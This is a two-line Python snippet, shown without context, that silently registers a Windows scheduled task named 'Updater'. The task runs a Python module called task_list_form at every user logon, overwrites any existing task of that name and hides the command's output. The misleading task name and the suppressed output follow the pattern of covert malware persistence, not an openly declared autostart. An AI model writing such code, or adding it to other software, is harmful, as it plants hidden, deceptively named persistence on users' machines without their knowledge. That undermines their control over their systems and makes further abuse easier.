import subprocess, sys
subprocess.run(["schtasks", "/create", "/sc", "onlogon", "/tn", "Updater", "/tr", sys.executable + " -m task_list_form", "/f"], capture_output=True)
